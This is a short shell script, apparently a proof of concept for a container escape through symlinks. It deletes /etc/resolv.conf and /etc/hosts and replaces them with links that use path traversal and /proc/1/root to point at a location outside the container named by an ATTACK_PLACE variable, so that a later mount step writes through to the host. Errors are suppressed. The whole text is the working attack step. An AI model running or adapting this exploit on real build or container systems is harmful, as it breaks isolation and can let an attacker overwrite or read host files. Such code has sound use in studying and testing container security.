# Puts links in the places of files that the next step has mounted on.
rm -f /etc/resolv.conf /etc/hosts
ln -s "../../../../..$ATTACK_PLACE/outside/file" /etc/resolv.conf 2>/dev/null
ln -s "/proc/1/root$ATTACK_PLACE/outside/file" /etc/hosts 2>/dev/null
true
